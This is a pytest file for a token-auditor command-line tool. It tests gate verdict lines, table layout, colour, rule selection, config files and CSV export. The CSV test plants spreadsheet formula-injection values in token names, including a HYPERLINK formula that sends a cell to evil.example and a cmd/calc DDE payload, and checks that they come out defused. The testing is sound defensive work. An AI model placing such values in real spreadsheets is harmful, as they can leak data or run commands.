"""What a CI log and a terminal show (issue 13): the gate's verdict line, row states, --show, --quiet,
the compact layout under COLUMNS, colour on a terminal only; rule selection and the config file; --version;
CSV read back. Everything runs the real CLI against the session's real OPA."""

from __future__ import annotations

import csv
import json
import os
import pty
import re
import subprocess
import sys

import jsonschema
import pytest

from auditor.inventory.validate import load_schema
from tests.conftest import NOW, OPA_BIN, ROOT, read_pty, run_cli, write_yaml

HEAD = ROOT / "tests" / "data" / "gate" / "head.json"
BASE = ROOT / "tests" / "data" / "gate" / "base.json"
ANSI = re.compile(r"\x1b\[[0-9;]*m")

WAIVERS = """\
waivers:
  - rule_id: legacy-token
    match: {token_id: "tok-legacy-1"}
    reason: publishing job moves to OIDC in December
    approved_by: secops-lead
    expires: 2026-12-31
  - rule_id: legacy-token
    match: {name: "retired-*"}
    reason: retired tokens
    approved_by: secops-lead
    expires: 2026-11-01
"""


def _cli_with(opa_server):
    url, token = opa_server

    def run(*args, env=None, cwd=None):
        args = list(args)
        if args and args[0] == "audit":
            args += ["--now", NOW, "--opa-url", url, "--opa-token-env", "TA_TEST_OPA_TOKEN"]
        return run_cli(*args, env={"TA_TEST_OPA_TOKEN": token, **(env or {})}, cwd=cwd)

    return run


@pytest.fixture()
def cli(opa_server):
    """Run `audit` (or any command) with the session's OPA; returns the finished process."""
    return _cli_with(opa_server)


@pytest.fixture(scope="module")
def gated(opa_server, tmp_path_factory):
    """Baseline from base.json, the waivers above: head.json then has 2 baseline, 1 waived, 1 expired waiver.
    Made once for the module: the tests only read both files."""
    cli = _cli_with(opa_server)
    tmp_path = tmp_path_factory.mktemp("gated")
    baseline = tmp_path / "baseline.json"
    made = cli("audit", str(BASE), "--fail-on", "never", "-q", "--write-baseline", str(baseline))
    assert made.returncode == 0, made.stderr
    waivers = write_yaml(tmp_path / "waivers.yaml", WAIVERS)
    return ("--baseline", str(baseline), "--waivers", str(waivers))


def test_verdict_line_says_why_the_gate_failed(cli, gated):
    result = cli("audit", str(HEAD), *gated)
    assert result.returncode == 1
    assert result.stdout.splitlines()[-1] == (
        "gate: FAIL (fail-on high): 1 new high finding; 1 new below high, 2 in baseline, 1 waived, 1 waiver expired"
    )


def test_verdict_line_pass_forms_and_quiet_prints_only_it(cli, gated):
    result = cli("audit", str(HEAD), *gated, "--fail-on", "critical", "--quiet")
    assert result.returncode == 0
    assert result.stdout == (
        "gate: PASS (fail-on critical): no new finding at critical or above; "
        "2 new below critical, 2 in baseline, 1 waived, 1 waiver expired\n"
    )
    never = cli("audit", str(HEAD), "--fail-on", "never", "-q")
    assert never.returncode == 0
    assert never.stdout == "gate: PASS (fail-on never): 5 new findings, none can fail the gate\n"
    plain = cli("audit", str(HEAD), "-q")
    assert plain.returncode == 1
    assert plain.stdout == "gate: FAIL (fail-on high): 2 new high findings; 3 new below high\n"


def test_quiet_still_writes_the_files(cli, tmp_path):
    out = tmp_path / "r.json"
    result = cli("audit", str(HEAD), "-q", "-f", "json", "-o", str(out))
    assert result.stdout == "gate: FAIL (fail-on high): 2 new high findings; 3 new below high\n"
    assert json.loads(out.read_text())["gate"]["failing"] == 2


def test_rows_are_marked_and_show_hides_baseline_and_waived(cli, gated):
    counted = cli("audit", str(HEAD), *gated, env={"COLUMNS": "200"}).stdout
    assert "[new]" in counted and "[baseline]" not in counted and "[waived]" not in counted
    assert "3 findings not shown (2 baseline, 1 waived); --show all lists them" in counted
    every = cli("audit", str(HEAD), *gated, "--show", "all", env={"COLUMNS": "200"}).stdout
    assert every.count("[baseline]") == 2 and every.count("[waived]") == 1 and every.count("[new]") == 2
    assert "not shown" not in every
    assert every.splitlines()[-1] == counted.splitlines()[-1]  # --show changes rows, never the verdict


def test_compact_layout_fits_80_columns(cli):
    result = cli("audit", str(ROOT / "fixtures"), "--fail-on", "never", env={"COLUMNS": "80"})
    lines = result.stdout.splitlines()
    assert "┌" not in result.stdout  # no grid
    too_wide = [line for line in lines[:-1] if len(line) > 80]
    assert too_wide == []
    assert "[new] admin-permission · github · deploy-script (ghp_…71c3fc11) · owner bob-ops" in lines
    assert lines[-1].startswith("gate: PASS (fail-on never): 56 new findings")


@pytest.mark.parametrize("columns", [120, 150])
def test_grid_layout_fits_the_width(cli, columns):
    result = cli("audit", str(ROOT / "fixtures"), "--fail-on", "never", env={"COLUMNS": str(columns)})
    assert "┌" in result.stdout
    assert max(len(line) for line in result.stdout.splitlines()[:-1]) <= columns


def run_in_pty(args: list[str], env: dict) -> str:
    """Run the CLI with stdout on a pseudo-terminal (isatty() true) and return what it printed."""
    main_fd, child_fd = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "auditor", *args],
        stdout=child_fd,
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
        cwd=ROOT,
        env=env,
    )
    os.close(child_fd)
    shown = read_pty(main_fd, process)
    process.wait(timeout=120)
    return shown


def test_severities_coloured_on_a_terminal_never_with_no_color_or_redirected(opa_server):
    url, token = opa_server
    args = ["audit", str(HEAD), "--now", NOW, "--opa-url", url, "--opa-token-env", "TA_TEST_OPA_TOKEN"]
    env = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "COLUMNS")}
    env.update({"OPA_BIN": OPA_BIN, "TA_TEST_OPA_TOKEN": token, "COLUMNS": "200"})
    coloured = run_in_pty(args, env)
    assert "\x1b[31mHIGH (2)\x1b[0m" in coloured
    assert "\x1b[33mMEDIUM (3)\x1b[0m" in coloured
    assert "\x1b[31m\x1b[1mgate: FAIL (fail-on high)" in coloured
    no_color = run_in_pty(args, {**env, "NO_COLOR": "1"})
    assert "\x1b[" not in no_color and "HIGH (2)" in no_color
    redirected = run_cli(*args, env={"TA_TEST_OPA_TOKEN": token})
    assert "\x1b[" not in redirected.stdout and "HIGH (2)" in redirected.stdout


def test_skip_rule_leaves_findings_out_and_lists_the_rule(cli, tmp_path):
    out = tmp_path / "r.json"
    result = cli("audit", str(HEAD), "--skip-rule", "legacy-token", "-f", "json", "-o", str(out))
    report = json.loads(out.read_text())
    assert sorted({f["rule_id"] for f in report["findings"]}) == ["long-lived", "no-expiry"]
    assert report["policy"]["skipped_rules"] == [
        {
            "id": "legacy-token",
            "title": "Legacy token with account-wide reach",
            "reason": "skipped by configuration (--skip-rule)",
        }
    ]
    assert "legacy-token" not in report["policy"]["rules"]
    assert report["summary"]["by_rule"] == {"long-lived": 2, "no-expiry": 1}
    jsonschema.validate(report, load_schema("report.v1"))
    assert result.returncode == 1  # no-expiry is high
    table = cli("audit", str(HEAD), "--skip-rule", "legacy-token", "--skip-rule", "no-expiry", env={"COLUMNS": "200"})
    assert table.returncode == 0
    assert "RULES SKIPPED BY CONFIGURATION (2)" in table.stdout
    assert "  legacy-token: skipped by configuration (--skip-rule)" in table.stdout.splitlines()
    assert table.stdout.splitlines()[-1] == (
        "gate: PASS (fail-on high): no new finding at high or above; 2 new below high, 2 rules skipped by configuration"
    )


def test_only_rule_and_unknown_rule_id(cli, tmp_path):
    out = tmp_path / "r.json"
    cli("audit", str(HEAD), "--only-rule", "long-lived", "--fail-on", "never", "-f", "json", "-o", str(out))
    report = json.loads(out.read_text())
    assert [f["rule_id"] for f in report["findings"]] == ["long-lived", "long-lived"]
    assert report["policy"]["rules"] == ["long-lived"]
    skipped = report["policy"]["skipped_rules"]
    assert len(skipped) == 21 and skipped[0] == {
        "id": "admin-permission",
        "title": "Organization administration permission",
        "reason": "skipped by configuration (not in --only-rule)",
    }
    bad = cli("audit", str(HEAD), "--skip-rule", "legacy-tokens")
    assert bad.returncode == 2 and bad.stdout == ""
    assert bad.stderr == (
        "token-auditor: error: --skip-rule: unknown rule id 'legacy-tokens'; `token-auditor rules` lists them\n"
    )


def test_config_file_found_in_cwd_then_repository_root(cli, tmp_path):
    repo = tmp_path / "repo"
    (repo / "sub").mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    write_yaml(repo / ".token-auditor.yaml", "skip_rules: [legacy-token]\n")
    out = tmp_path / "r.json"
    cli("audit", str(HEAD), "--fail-on", "never", "-f", "json", "-o", str(out), cwd=repo / "sub")
    report = json.loads(out.read_text())
    assert report["policy"]["skipped_rules"][0]["reason"] == (
        f"skipped by configuration (skip_rules in {repo / '.token-auditor.yaml'})"
    )
    assert report["config"] == {"skip_rules": ["legacy-token"]}
    # one in the current directory wins over the repository root's
    write_yaml(repo / "sub" / ".token-auditor.yaml", "only_rules: [no-expiry]\n")
    cli("audit", str(HEAD), "--fail-on", "never", "-f", "json", "-o", str(out), cwd=repo / "sub")
    assert [f["rule_id"] for f in json.loads(out.read_text())["findings"]] == ["no-expiry"]
    # --no-config ignores both; --config names another
    cli("audit", str(HEAD), "--fail-on", "never", "--no-config", "-f", "json", "-o", str(out), cwd=repo / "sub")
    report = json.loads(out.read_text())
    assert "skipped_rules" not in report["policy"] and report["config"] == {}
    other = write_yaml(tmp_path / "other.yaml", "skip_rules: [long-lived]\n")
    cli(
        "audit", str(HEAD), "--fail-on", "never", "--config", str(other), "-f", "json", "-o", str(out), cwd=repo / "sub"
    )
    assert [s["id"] for s in json.loads(out.read_text())["policy"]["skipped_rules"]] == ["long-lived"]
    both = cli("audit", str(HEAD), "--config", str(other), "--no-config", cwd=repo / "sub")
    assert both.returncode == 2 and "--config and --no-config contradict each other" in both.stderr


def test_config_unknown_key_is_one_line_naming_file_and_key(cli, tmp_path):
    config = write_yaml(
        tmp_path / ".token-auditor.yaml", "thresholds:\n  stale_days: 30\n  stail_days: 10\nskip_rule: [legacy-token]\n"
    )
    result = cli("audit", str(HEAD), cwd=tmp_path)
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr.splitlines() == [
        f"token-auditor: invalid: {config}:3: unknown key 'stail_days' at /thresholds "
        "(known: max_age_days, max_lifetime_days, stale_days, unused_grace_days)",
        f"token-auditor: invalid: {config}:4: unknown key 'skip_rule' at / "
        "(known: catalogue, only_rules, skip_rules, thresholds)",
    ]
    unknown_rule = write_yaml(tmp_path / ".token-auditor.yaml", "only_rules: [no-such-rule]\n")
    result = cli("audit", str(HEAD), cwd=tmp_path)
    assert result.returncode == 2
    assert result.stderr == (
        f"token-auditor: error: only_rules in {unknown_rule}: unknown rule id 'no-such-rule'; "
        "`token-auditor rules` lists them\n"
    )


def test_rule_selection_stays_out_of_the_policy_input(tmp_path):
    config = write_yaml(tmp_path / "c.yaml", "skip_rules: [legacy-token]\nthresholds: {stale_days: 30}\n")
    result = run_cli("normalize", str(HEAD), "--now", NOW, "--config", str(config))
    assert json.loads(result.stdout)["config"] == {"thresholds": {"stale_days": 30}}


def test_version_names_tool_opa_and_catalogue():
    result = run_cli("--version")
    assert result.returncode == 0
    assert result.stdout.splitlines() == [
        "token-auditor 0.1.0",
        f"OPA {(ROOT / '.opa-version').read_text().strip()} ({OPA_BIN})",
        "catalogue 2026.11.29 (2026-11-29)",
    ]
    missing = run_cli("--version", env={"OPA_BIN": "/nonexistent/opa"})
    assert missing.returncode == 0 and "OPA not found" in missing.stdout.splitlines()[1]


def test_csv_reads_back_one_row_per_finding_with_formulas_defused(cli, tmp_path):
    inventory = json.loads(HEAD.read_text())
    inventory["tokens"][0]["name"] = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    inventory["tokens"][0]["owner"] = "@SUM(1+1)"
    inventory["tokens"][1]["name"] = "+cmd|' /C calc'!A0"
    inventory["tokens"][2]["name"] = "-2+3"
    inventory["tokens"][2]["owner"] = "\tcarol"
    path = tmp_path / "evil.json"
    path.write_text(json.dumps(inventory))
    out = tmp_path / "r.csv"
    result = cli("audit", str(path), "--fail-on", "never", "-f", "csv", "-o", str(out))
    assert result.returncode == 0, result.stderr
    raw = out.read_bytes()
    assert raw.startswith(
        b"state,severity,rule_id,provider,token_name,token_id,owner,message,action,"
        b"recommendation,file,pointer,line,waiver_expires,fingerprint\r\n"
    )
    with open(out, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 5
    assert [(r["severity"], r["rule_id"], r["token_id"]) for r in rows] == [
        ("high", "legacy-token", "tok-legacy-1"),
        ("high", "no-expiry", "tok-legacy-1"),
        ("medium", "legacy-token", "tok-legacy-2"),
        ("medium", "long-lived", "tok-fine-3"),
        ("medium", "long-lived", "tok-legacy-2"),
    ]
    first = rows[0]
    assert first["token_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert first["owner"] == "'@SUM(1+1)" and first["state"] == "new" and first["provider"] == "huggingface"
    assert first["file"] == str(path) and first["pointer"] == "/tokens/0"
    assert rows[2]["token_name"] == "'+cmd|' /C calc'!A0"
    assert rows[3]["token_name"] == "'-2+3" and rows[3]["owner"] == "'\tcarol"
    # no cell a spreadsheet would evaluate
    assert [c for r in rows for c in r.values() if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_documented_shell_completion_completes_options_and_choices():
    script = os.path.join(os.path.dirname(sys.executable), "token-auditor")
    env = {k: v for k, v in os.environ.items() if not k.startswith("COMP_")}

    def complete(words: str, index: int) -> list[str]:
        result = subprocess.run(
            [script],
            env={**env, "_TOKEN_AUDITOR_COMPLETE": "bash_complete", "COMP_WORDS": words, "COMP_CWORD": str(index)},
            capture_output=True,
            text=True,
            timeout=60,
        )
        return result.stdout.splitlines()

    assert complete("token-auditor audit --sk", 2) == ["plain,--skip-rule"]
    assert complete("token-auditor audit --show ", 3) == ["plain,counted", "plain,all"]
    usage = (ROOT / "docs" / "usage.md").read_text()
    assert 'eval "$(_TOKEN_AUDITOR_COMPLETE=bash_source token-auditor)"' in usage


def test_documented_config_example_is_valid(tmp_path):
    usage = (ROOT / "docs" / "usage.md").read_text()
    example = usage.split("```yaml\nthresholds: {stale_days: 60", 1)[1].split("```", 1)[0]
    config = write_yaml(tmp_path / ".token-auditor.yaml", "thresholds: {stale_days: 60" + example)
    result = run_cli("normalize", str(HEAD), "--now", NOW, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["config"] == {
        "thresholds": {"stale_days": 60, "max_lifetime_days": 90},
        "catalogue": {},
    }
    assert config.is_file()


def test_report_command_renders_the_saved_gate(cli, gated, tmp_path):
    saved = tmp_path / "saved.json"
    cli("audit", str(HEAD), *gated, "-f", "json", "-o", str(saved))
    counted = run_cli("report", str(saved), "-f", "table", env={"COLUMNS": "200"})
    assert counted.stdout.splitlines()[-1] == (
        "gate: FAIL (fail-on high): 1 new high finding; 1 new below high, 2 in baseline, 1 waived, 1 waiver expired"
    )
    assert "[baseline]" not in counted.stdout
    every = run_cli("report", str(saved), "-f", "table", "--show", "all", env={"COLUMNS": "200"})
    assert every.stdout.count("[baseline]") == 2 and every.stdout.count("[waived]") == 1
